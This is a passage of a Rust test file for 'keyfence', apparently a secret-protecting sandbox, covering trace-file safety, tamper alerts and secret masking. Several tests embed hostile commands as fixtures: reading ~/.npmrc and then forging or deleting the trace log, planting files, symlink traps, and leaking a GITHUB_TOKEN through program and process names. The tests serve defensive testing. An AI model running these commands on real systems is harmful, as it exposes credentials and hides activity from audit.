        .permissions()
        .mode()
        & 0o7777
}

/// #14: the trace file was opened after keyfence had sandboxed itself, so `--trace=FILE` in a
/// directory the sandbox keeps read-only (the home, on the way to ~/.aws) failed with EACCES.
/// Opened first, it works, mode 0600, under the install profile and plain `--sandbox`; an
/// existing file of the user's, world-readable, is emptied and tightened to 0600.
#[test]
fn trace_file_in_home_under_the_sandbox() {
    use std::os::unix::fs::PermissionsExt;
    let fx = Fixture::outside_tmp();
    fx.home_file(".aws/credentials", "[default]\n");
    let trace = fx.home.join("trace.jsonl");
    let trace_arg = format!("--trace={}", trace.display());
    // The built-in install profile; the tree itself still cannot write beside the file.
    let r = fx.run(
        &[
            "run",
            "--profile",
            "install",
            &trace_arg,
            "--",
            "sh",
            "-c",
            "echo ok; (echo x > \"$HOME/planted\") 2>/dev/null; true",
        ],
        &[],
    );
    assert_ne!(r.code, 125, "{}\n{}", r.stdout, r.stderr);
    assert_eq!(r.stdout.trim(), "ok");
    assert!(
        !fx.home.join("planted").exists(),
        "the sandbox let the tree write"
    );
    let (_, events) = read_trace(&trace);
    assert_eq!(events[0]["event"], "exec", "{events:?}");
    assert_eq!(mode(&trace), 0o600);
    // Again over a file of the user's that others may read: emptied first, and 0600.
    std::fs::write(&trace, "old line\n").unwrap();
    std::fs::set_permissions(&trace, std::fs::Permissions::from_mode(0o644)).unwrap();
    let r = fx.run(
        &["run", "--sandbox", &trace_arg, "--", "sh", "-c", "echo ok"],
        &[],
    );
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    assert_eq!(mode(&trace), 0o600);
    let text = std::fs::read_to_string(&trace).unwrap();
    assert!(
        !text.contains("old line") && text.contains("\"exec\""),
        "{text}"
    );
}

/// #14: a symbolic link at FILE (planted by the tree of an earlier run, or by another user in a
/// shared directory) made keyfence write, as the user, wherever it pointed, and truncate that
/// file. Refused, naming the path, and the target is left as it was; a link to a file that does
/// not exist yet does not create it.
#[test]
fn trace_refuses_a_symlink_at_the_file() {
    let fx = Fixture::new();
    let target = fx.home.join("precious.txt");
    std::fs::write(&target, "keep me\n").unwrap();
    let link = fx.dir.path().join("trace.jsonl");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let dangling = fx.dir.path().join("dangling.jsonl");
    let absent = fx.home.join("absent.txt");
    std::os::unix::fs::symlink(&absent, &dangling).unwrap();
    for path in [&link, &dangling] {
        let trace_arg = format!("--trace={}", path.display());
        let r = fx.run(&["run", &trace_arg, "--", "sh", "-c", "echo ran"], &[]);
        assert_eq!(r.code, 125, "{}\n{}", r.stdout, r.stderr);
        assert!(!r.stdout.contains("ran"), "the command ran: {}", r.stdout);
        assert!(
            r.stderr.contains(&path.display().to_string())
                && r.stderr.contains("symbolic link")
                && r.stderr.contains("hint:"),
            "{}",
            r.stderr
        );
    }
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep me\n");
    assert!(!absent.exists(), "the link's target was created");
}

/// #14: a FILE that belongs to another user (root writing into a user's file, or a file another
/// user left in a shared directory for keyfence to fill) is refused and left as it was.
#[test]
fn trace_refuses_a_file_of_another_user() {
    use std::os::unix::fs::PermissionsExt;
    if !needs_root() {
        return;
    }
    let fx = Fixture::new();
    let theirs = fx.dir.path().join("trace.jsonl");
    std::fs::write(&theirs, "theirs\n").unwrap();
    let st = Command::new("chown")
        .args(["65534:65534"])
        .arg(&theirs)
        .status()
        .unwrap();
    assert!(st.success());
    let trace_arg = format!("--trace={}", theirs.display());
    let r = fx.run(&["run", &trace_arg, "--", "sh", "-c", "echo ran"], &[]);
    assert_eq!(r.code, 125, "{}\n{}", r.stdout, r.stderr);
    assert!(!r.stdout.contains("ran"), "the command ran: {}", r.stdout);
    assert!(
        r.stderr.contains(&theirs.display().to_string())
            && r.stderr.contains("another user")
            && r.stderr.contains("hint:"),
        "{}",
        r.stderr
    );
    assert_eq!(std::fs::read_to_string(&theirs).unwrap(), "theirs\n");
    // The other way round, as an ordinary user: a file another user left writable by all in a
    // directory they share, for keyfence to fill and its owner to read.
    assert!(fx.hand_to_unprivileged());
    let planted = fx.project.join("trace.jsonl");
    std::fs::write(&planted, "").unwrap();
    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o666)).unwrap();
    let trace_arg = format!("--trace={}", planted.display());
    // As `run_unprivileged` does, without handing the fixture (and so the file) to nobody again.
    let r = Run::from(
        Command::new(AS_UNPRIVILEGED[0])
            .args(&AS_UNPRIVILEGED[1..])
            .arg(BIN)
            .arg("--etc")
            .arg(&fx.etc)
            .args(["run", &trace_arg, "--", "sh", "-c", "echo ran"])
            .current_dir(&fx.project)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", &fx.home)
            .output()
            .unwrap(),
    );
    assert_eq!(r.code, 125, "{}\n{}", r.stdout, r.stderr);
    assert!(r.stderr.contains("another user (uid 0)"), "{}", r.stderr);
    assert_eq!(std::fs::read_to_string(&planted).unwrap(), "");
}

/// A command runs as the same user: where it may write, it can rewrite the trace file to hide
/// what it did (here: it reads ~/.npmrc, then overwrites the file with one harmless line, or
/// deletes it and leaves one in its place). keyfence checks the file at the end and raises an
/// alert; kept in the home under the sandbox, the rewrite fails and the record stands.
#[test]
fn trace_tells_when_the_command_rewrote_the_file() {
    let fx = Fixture::outside_tmp();
    fx.home_file(".npmrc", "registry=https://registry.npmjs.org/\n");
    // Rewritten in place, or deleted and written anew (keyfence's own writes then go to the
    // deleted file). Rewritten in place, the forgery must outgrow what keyfence writes at its
    // own offset afterwards: it buries the record under harmless events.
    let rewrite = "cat ~/.npmrc > /dev/null; \
                   (yes '{\"event\":\"exec\",\"pid\":1,\"group\":\"sh\"}' | head -n 2000 > \"$TRACE\") 2>/dev/null; true";
    let replace = "cat ~/.npmrc > /dev/null; \
                   (rm -f \"$TRACE\" && echo '{\"event\":\"exec\"}' > \"$TRACE\") 2>/dev/null; true";
    for (dir, options, forge) in [
        (&fx.project, &[][..], rewrite),
        (&fx.project, &[][..], replace),
        (&fx.home, &["--sandbox"][..], rewrite),
        (&fx.home, &["--sandbox"][..], replace),
    ] {
        let trace = dir.join("trace.jsonl");
        let trace_arg = format!("--trace={}", trace.display());
        let mut args = vec!["run"];
        args.extend(options);
        args.extend([&trace_arg, "--", "sh", "-c", forge]);
        let r = fx.run(&args, &[("TRACE", trace.to_str().unwrap())]);
        assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
        let alert = r.stderr.contains(
            "ALERT: something other than keyfence wrote to, moved or replaced the trace file",
        );
        let (_, events) = read_trace_lossy(&trace);
        let read_npmrc = events
            .iter()
            .any(|e| e["path"].as_str().is_some_and(|p| p.ends_with("/.npmrc")));
        if options.is_empty() {
            assert!(alert, "{}", r.stderr);
        } else {
            assert!(!alert && read_npmrc, "{}\n{events:?}", r.stderr);
        }
    }
}

/// A trace file's events, skipping lines that are not JSON (what a rewrite left, say).
fn read_trace_lossy(path: &Path) -> (String, Vec<serde_json::Value>) {
    let text = String::from_utf8_lossy(&std::fs::read(path).unwrap()).into_owned();
    let events = text
        .lines()
        .filter_map(|l| serde_json::from_str(l.trim_matches('\0')).ok())
        .collect();
    (text, events)
}

/// #14: guard alone (no trace) printed a setuid program's path and a process's name in its
/// notices as given: a command holding an injected key could put it on keyfence's stderr (a CI
/// log) by naming a program after it, or 15 bytes of it by naming a process.
#[test]
fn guard_notices_mask_a_protected_value() {
    let mut fx = Fixture::new();
    let key = fx.key("github");
    fx.store_secret("GITHUB_TOKEN", &key);
    // The command itself holds the key (its descendants do not, under guard).
    let script = r#"
import ctypes, os, shutil, subprocess
v = os.environ["GITHUB_TOKEN"]
shutil.copy("/bin/true", v)
os.chmod(v, 0o4755)
subprocess.run(["./" + v])
libc = ctypes.CDLL(None)
libc.prctl(15, v[4:19].encode())
libc.ptrace(0, 0, 0, 0)
"#;
    let r = fx.run(
        &[
            "run",
            "--guard",
            "--inject",
            "GITHUB_TOKEN",
            "--",
            "python3",
            "-c",
            script,
        ],
        &[],
    );
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    assert!(!r.stderr.contains(&key[4..19]), "{}", r.stderr);
    for notice in [
        "keyfence: guard: ./<keyfence:GITHUB_TOKEN> is setuid/setgid",
        "keyfence: guard: <keyfence:GITHUB_TOKEN> (pid ",
    ] {
        assert!(r.stderr.contains(notice), "{notice}: {}", r.stderr);
    }
}

/// A profile's phantom is watched like a `--phantom` one: the command writing its stand-in to
/// a file shows in the trace. (The recorder read only the `--phantom` names, so the stand-ins
/// of a profile's `[[profile.phantom]]` entries went unseen.)
#[test]
fn trace_reports_a_profile_phantoms_standin() {
    let mut fx = Fixture::new();
    let key = fx.key("token");
    fx.store_secret("MISTRAL_API_KEY", &key);
    fx.home_file(
        ".config/keyfence/config.toml",
        "[[profile]]\nname = \"mistral\"\n\n[[profile.phantom]]\nvar = \"MISTRAL_API_KEY\"\n\
         base_url_var = \"MISTRAL_BASE_URL\"\nupstream = \"http://127.0.0.1:9/api\"\n",
    );
    let trace = fx.dir.path().join("trace.jsonl");
    let trace_arg = format!("--trace={}", trace.display());
    let script = format!(
        "cd {}; printf %s \"$MISTRAL_API_KEY\" > standin.txt",
        fx.project.display()
    );
    let r = fx.run(
        &[
            "run",
            "--profile",
            "mistral",
            &trace_arg,
            "--",
            "sh",
            "-c",
            &script,
        ],
        &[],
    );
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    let standin = std::fs::read_to_string(fx.project.join("standin.txt")).unwrap();
    assert!(standin.len() > 20 && standin != key, "no stand-in given");
    let (text, events) = read_trace(&trace);
    r.assert_no_secret(&[key.clone(), standin.clone()]);
    assert!(!text.contains(&key) && !text.contains(&standin), "{text}");
    let path = fx.project.join("standin.txt").display().to_string();
    assert!(
        events.iter().any(|e| e["event"] == "secret-written"
            && e["path"] == path
            && e["what"]
                .as_str()
                .is_some_and(|w| w.contains("MISTRAL_API_KEY (stand-in)"))),
        "{events:?}"
    );
}
